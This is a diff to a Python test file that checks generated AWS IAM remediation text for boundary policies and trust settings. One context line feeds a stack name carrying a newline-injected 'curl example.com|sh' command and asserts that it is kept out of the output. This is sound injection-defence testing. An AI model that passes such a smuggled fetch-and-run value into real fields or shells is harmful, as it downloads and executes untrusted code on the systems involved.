@@ -30,3 +30,13 @@ def test_a_stack_of_no_stacks_name_is_left_out() -> None:
     """What doesn't read as a stack's name is a tag that somebody wrote."""
     assert "curl" not in Mends(_HUB, _TARGET, "/", Route.DIRECT, "x\ncurl example.com|sh").trust
     assert "the stack hubspoke-x," in Mends(_HUB, _TARGET, "/", Route.DIRECT, "hubspoke-x").trust
+
+
+def test_a_boundary_that_is_there_gets_another_version() -> None:
+    """IAM makes no second policy of a name, and bounding the role by the same weak one mends nothing."""
+    arn = "arn:aws:iam::333333333333:policy/hubspoke/automation-spoke-role-boundary"
+    said = Mends(_HUB, _TARGET, "/hubspoke/", Route.HUB, boundary_arn=arn).boundary
+    assert f"create-policy-version --policy-arn {arn} --set-as-default" in said
+    assert "create-policy " not in said
+    other = Mends(_HUB, _TARGET, "/hubspoke/", Route.HUB, boundary_arn=f"{arn}-2").boundary
+    assert "create-policy --path" in other
